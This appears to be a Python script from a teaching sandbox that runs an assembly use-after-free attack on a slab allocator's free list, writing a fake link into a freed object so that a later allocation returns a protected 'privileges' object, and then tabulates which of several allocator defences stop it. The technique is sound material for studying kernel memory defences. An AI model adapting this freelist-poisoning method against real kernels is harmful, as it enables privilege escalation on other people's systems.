"""An attack on the free list: who can write to freed memory chooses what the allocator returns.

A free object holds the address of the next one (05_free_list). The attacker has a pointer that somebody forgot, and
writes the address of a thing that he must not have; two allocations later it is his. Each defence stops the attack at
another place, or not at all: README.md has the whole table, of four attacks (tests/attacks) and eleven defences.
"""

import sandbox
from sandbox.view.defences import attack, table

ATTACK = """
.set LINK_AT, 32                    # where the link lies in a free object of 64 bytes
.text
main:
    push rbx
    lea rdi, [rip + name]
    mov esi, 64
    xor edx, edx
    mov ecx, SLAB_NO_MAGAZINES
    xor r8d, r8d
    call kmem_cache_create
    mov rbx, rax                    # rbx = cache
    mov rdi, rax
    call kmem_cache_alloc
    push rax                        # [rsp] = the pointer that is kept,
    push rax
    mov rdi, rbx
    mov rsi, rax
    call kmem_cache_free            # though its object is freed
    pop rax
    pop rax
    lea rcx, [rip + privileges]
the_write:
    mov [rax + LINK_AT], rcx
    mov rdi, rbx
the_reuse:
    call kmem_cache_alloc           # the freed object
    mov rdi, rbx
the_allocation:
    call kmem_cache_alloc           # and what its link says
    lea rcx, [rip + privileges]
    sub rax, rcx                    # success is to have them
    pop rbx
    ret
.rodata
name: .asciz "session"
.bss
.p2align 6
privileges: .zero 64
"""

DEFENCES = {"none": {}, "random order": {"freelist_random": 1}, "hardened": {"freelist_hardened": True},
            "red zones, poison": {"slab_debug": "ZP"}, "checks": {"slab_debug": "F"}, "shadow": {"shadow": True}}
found = {}
for defence, options in DEFENCES.items():
    with sandbox.boot(ATTACK, **options) as kernel:
        found[defence] = {"what becomes of it": attack(kernel)}
print(*table(found), sep="\n")
